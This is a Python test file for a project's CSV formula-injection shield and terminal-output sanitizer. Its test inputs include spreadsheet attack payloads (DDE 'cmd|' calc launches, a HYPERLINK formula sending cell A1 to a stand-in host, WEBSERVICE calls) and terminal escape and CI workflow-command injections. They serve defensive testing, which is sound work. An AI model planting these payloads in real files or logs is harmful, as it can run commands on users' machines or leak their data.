"""CSV files hold no formulas, and whoever takes the shield off has the exact text; terminals are told text alone."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from briefing.corrections.lines import lines_of
from briefing.legible import legible
from briefing.shielded import shielded, unshielded, unshielded_row
from briefing.tables.store import as_csv, frame, load, save

CELLS = st.text(alphabet=st.sampled_from("'=+-@＝＋－＠\t\r\n 012.%aA(|!\"")) | st.text()
# What spreadsheets run: OWASP's list of first characters, the dynamic data exchange of Excel, LibreOffice's WEBSERVICE.
RUN = [
    *("=1+1", "+1+1+A1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1"),
    *('=HYPERLINK("http://x.example?"&A1)', '=WEBSERVICE("http://x.example")', "=cmd|'/C calc'!A0"),
    *("＝1+1", "＋A1", "－A1", "＠A1"),
]  # fmt: skip


@pytest.mark.parametrize("cell", RUN)
def test_what_a_spreadsheet_runs_stands_behind_an_apostrophe(cell: str) -> None:
    assert shielded(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["-5", "--01-18", "+84 24 3943", "-1.5%", "12", "’tis", "'tis", "a=b", "– 5", "", "2019-05-01"]
)
def test_numbers_dates_and_words_stand_as_they_are(cell: str) -> None:
    assert shielded(cell) == cell


@given(CELLS)
@example("'=1")
@example("''")
def test_the_shield_is_taken_off_without_a_trace(cell: str) -> None:
    assert unshielded(shielded(cell)) == cell
    assert not re.match(r"[=@\t\r\n＝＠]", shielded(cell))


@given(st.lists(CELLS.filter(lambda cell: "\x00" not in cell), min_size=1, max_size=3))
@example(["=1+1", "'=1+1", "-a"])
def test_a_table_is_read_back_as_it_was(cells: list[str]) -> None:
    rows = [{"file": cell or "x", "problem": "refused", "cause": cell or "x", "remedy": "-5"} for cell in cells]
    written = as_csv("errors", frame("errors", rows))
    read = [dict(row) for row in csv.DictReader(io.StringIO(written, newline=""))]
    assert [unshielded_row(row) for row in read] == rows


def test_tables_are_saved_with_the_shield_and_loaded_without(tmp_path: Path) -> None:
    rows = [{"file": "=1+1", "problem": "refused", "cause": "-5", "remedy": "'=1"}]
    save({"errors": frame("errors", rows)}, str(tmp_path))
    assert "'=1+1,refused,-5,''=1\n" in (tmp_path / "errors.csv").read_text(encoding="utf-8")
    assert load(str(tmp_path), ["errors"])["errors"].to_dict("records") == rows


def test_a_recorded_correction_stands_behind_the_shield_and_is_read_without() -> None:
    cells = {
        "source": "a",
        "table": "mentions",
        "quote": "=Laos",
        "was": "kind=country; id=LAO",
        "who": "A",
        "why": "@b",
    }
    file = lines_of("").with_more([{**cells, "when": "2026-11-22"}])
    assert "'=Laos" in file.text
    assert "'@b" in file.text
    assert (file.made[0].quote, file.made[0].why) == ("=Laos", "@b")


@given(st.text())
@example("a\x1b[2J\u202e\x9b\u2028::error::")
@example(" \u200b::error::x")
@example("a\n\t##[group]x\n  ::add-mask::y")
def test_nothing_that_is_printed_steers_a_terminal_or_a_workflow(text: str) -> None:
    told = legible(text)
    assert all(one == "\n" or one.isprintable() or one.isspace() for one in told)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]", told)
    assert not re.search(r"(?m)^\s*::|##\[", told)


@pytest.mark.parametrize("text", ["briefing: seeds/một.txt: is empty.", "a:: b", "3\u202f000 parties", "“x” – ü"])
def test_ordinary_messages_are_printed_as_they_are(text: str) -> None:
    assert legible(text) == text
